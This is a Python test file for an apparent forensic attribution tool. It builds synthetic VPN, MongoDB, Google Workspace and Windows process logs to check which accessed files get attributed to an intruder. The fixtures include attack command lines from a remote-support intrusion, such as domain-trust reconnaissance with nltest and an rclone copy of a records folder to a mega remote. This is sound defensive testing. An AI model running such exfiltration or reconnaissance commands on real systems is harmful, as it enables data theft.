"""Small stories: what belongs to the actor when they came by a VPN, by an application that was let in, or by remote support."""

from __future__ import annotations

import json
from datetime import UTC, date, datetime, timedelta

from stanch.cause.account import chapters, follow
from stanch.cause.actor import Actor, find_actor
from stanch.cause.detect import watch
from stanch.cause.places import Places
from stanch.cause.playbook import playbooks
from stanch.cause.reach import Joining
from stanch.cause.sigma import own_rules
from stanch.cause.timeline import of_texts

AS_OF = date(2026, 6, 1)
NIGHT = datetime(2026, 5, 15, 1, 2, tzinfo=UTC)
BAD = "203.0.113.31"


def told(evidence: list[str], *texts: str) -> tuple[Actor, list[str], set[str]]:
    logs = [(f"log{at}", text) for at, text in enumerate(texts)]
    actor = find_actor(watch(of_texts(logs, AS_OF), own_rules()))
    joining = Joining(actor, Places.of(evidence))
    doings = follow(joining.watching(of_texts(logs, AS_OF)), actor)
    return actor, [chapter.text for chapter in chapters(actor, doings)], set(joining.places_reached)


def stamp(when: datetime) -> str:
    return f"{when:%b} {when.day:2} {when:%H:%M:%S}"


def test_what_a_vpn_gave_out_to_the_actor_is_theirs_on_the_file_server() -> None:
    vpn, files = [], []

    def session(when: datetime, user: str, outside: str, inside: str) -> None:
        vpn.append(f"{stamp(when)} fw openvpn[4021]: {outside}:51312 [{user}] Peer Connection Initiated with [AF_INET]{outside}:51312")
        vpn.append(f"{stamp(when)} fw openvpn[4021]: {user}/{outside}:51312 MULTI_sva: pool returned IPv4={inside}, IPv6=(Not enabled)")

    for ago in range(12, 0, -1):
        day = NIGHT - timedelta(days=ago)
        session(day, "glen", "198.51.100.62", "10.8.0.3")
        files.append(f"{stamp(day)} fs1 smbd_audit[9]: glen|10.8.0.3|laptop|Office|open|ok|r|/srv/Office/Quotes/q{ago}.xlsx")
    for at in range(6):
        before = NIGHT - timedelta(minutes=9 - at)
        vpn.append(f"{stamp(before)} fw openvpn[4021]: {BAD}:40011 TLS Auth Error: Auth Username/Password verification failed for peer")
    session(NIGHT, "glen", BAD, "10.8.0.9")
    files.append(f"{stamp(NIGHT + timedelta(minutes=5))} fs1 smbd_audit[9]: glen|10.8.0.9|laptop|Office|open|ok|r|/srv/Office/HR/pay.csv")
    actor, sentences, reached = told(["e/Office/HR/pay.csv", "e/Office/Quotes/q3.xlsx"], "\n".join(vpn) + "\n", "\n".join(files) + "\n")
    assert (actor.addresses, actor.accounts) == ({BAD, "10.8.0.9"}, {"glen"})
    assert reached == {"e/Office/HR/pay.csv"}
    assert f"After five or more refused sign-ins {BAD} signed in to the VPN as glen." in sentences


def test_what_was_read_before_a_database_was_emptied_belongs_to_it() -> None:
    lines = []

    def line(seconds: int, message: str, **attr: object) -> None:
        when = NIGHT + timedelta(seconds=seconds)
        lines.append(json.dumps({"t": {"$date": f"{when:%Y-%m-%dT%H:%M:%S.000+00:00}"}, "s": "I", "c": "COMMAND", "id": 51803, "ctx": "conn7", "msg": message, "attr": attr}))  # fmt: skip

    line(0, "Connection accepted", remote=f"{BAD}:41000", connectionId=7)
    line(20, "Slow query", ns="shop.customers", command={"find": "customers", "$db": "shop"}, remote=f"{BAD}:41000", reslen=90000)
    line(30, "Slow query", ns="shop.customers", command={"getMore": 77, "collection": "customers", "$db": "shop"}, remote=f"{BAD}:41000")
    line(93, "createCollection", namespace="READ__ME_TO_RECOVER_YOUR_DATA.README")
    _, sentences, reached = told(["shop/customers.csv", "shop/orders.csv"], "\n".join(lines) + "\n")
    assert reached == {"shop/customers.csv"}
    assert "A table was opened (MongoDB, 2 times): customers." in sentences


def test_a_help_desk_that_was_deceived_is_social_engineering_in_veris() -> None:
    statement, veris = playbooks()["email_compromise"].told({"entra_help_desk": 0, "m365_mass_download": 1})
    assert veris["action"]["social"] == {"variety": ["Pretexting"], "target": ["Helpdesk"], "vector": ["Phone"]}
    assert list(veris["actor"]) == ["external"]
    assert "help desk" in statement


def test_an_application_that_was_let_in_from_the_office_the_day_before_was_the_way_in() -> None:
    found = []

    def activity(when: datetime, app: str, name: str, ip: str, **said: str) -> None:
        parameters = [{"name": key, "value": value} for key, value in said.items()]
        found.append({"id": {"time": f"{when:%Y-%m-%dT%H:%M:%S}Z", "applicationName": app, "uniqueQualifier": str(len(found))},
                      "actor": {"email": "ines@example.com"}, "ipAddress": ip, "events": [{"name": name, "parameters": parameters}]})  # fmt: skip

    for ago in range(12, 0, -1):
        activity(NIGHT - timedelta(days=ago), "login", "login_success", "198.51.100.88")
    scope = "https://www.googleapis.com/auth/drive"
    activity(NIGHT - timedelta(days=4), "token", "authorize", "198.51.100.88", app_name="Calendar", scope=scope)
    activity(NIGHT, "token", "authorize", "198.51.100.88", app_name="PDF Signer", scope=scope)
    for at in range(55):
        activity(NIGHT + timedelta(minutes=30, seconds=3 * at), "drive", "download", BAD, doc_title=f"Memo {at}")
    actor, sentences, _ = told([], json.dumps({"items": found}))
    assert (actor.entered, actor.addresses) == (NIGHT, {BAD})
    assert any("let an application" in one and "PDF Signer" in one for one in sentences)


def test_what_the_system_itself_ran_for_remote_support_is_the_actors() -> None:
    image = "C:\\Program Files (x86)\\ScreenConnect Client (8f2a)\\ScreenConnect.ClientService.exe"

    def started(minutes: int, command: str, program: str, parent: str) -> str:
        when = NIGHT + timedelta(minutes=minutes)
        system = {"Provider": {"#attributes": {"Name": "Microsoft-Windows-Security-Auditing"}}, "EventID": 4688, "Channel": "Security",
                  "Computer": "SRV1", "EventRecordID": minutes, "TimeCreated": {"#attributes": {"SystemTime": f"{when:%Y-%m-%dT%H:%M:%S}Z"}}}  # fmt: skip
        data = {"SubjectUserName": "SRV1$", "SubjectLogonId": "0x3e7", "NewProcessName": program, "CommandLine": command, "ParentProcessName": parent}  # fmt: skip
        return json.dumps({"Event": {"System": system, "EventData": data}})

    shell = "C:\\Windows\\System32\\cmd.exe"
    log = [
        started(0, '"cmd.exe" /c "C:\\Windows\\TEMP\\ScreenConnect\\23.9\\7f1run.cmd"', shell, image),
        started(3, "nltest /domain_trusts", "C:\\Windows\\System32\\nltest.exe", shell),
        started(9, "robocopy D:\\Shop E:\\Shop", "C:\\Windows\\System32\\robocopy.exe", "C:\\Windows\\System32\\svchost.exe"),
        started(14, "rclone.exe copy D:\\Records mega:x --config C:\\ProgramData\\r.conf", "C:\\ProgramData\\rclone.exe", shell),
    ]
    actor, _, reached = told(["e/Records/owners.csv", "e/Shop/list.csv"], "\n".join(log))
    assert actor.machines == {"srv1"}
    assert reached == {"e/Records"}  # the nightly copy is not theirs
